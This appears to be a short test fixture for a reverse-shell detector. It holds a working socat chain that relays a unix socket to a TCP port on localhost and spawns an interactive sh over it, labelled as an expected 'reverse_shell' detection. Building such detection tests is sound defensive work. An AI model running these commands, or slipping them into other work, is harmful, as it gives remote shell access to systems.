# about: one socat connects out and waits on a unix socket; another, later, joins it and runs the shell
# expect: reverse_shell medium
# needs: python3 socat
proven 4517
timeout 7 socat UNIX-LISTEN:hop TCP:127.0.0.1:4517 & 
sleep 0.4
setsid timeout 6 socat UNIX-CONNECT:hop EXEC:sh,pty,stderr,setsid || true
answered
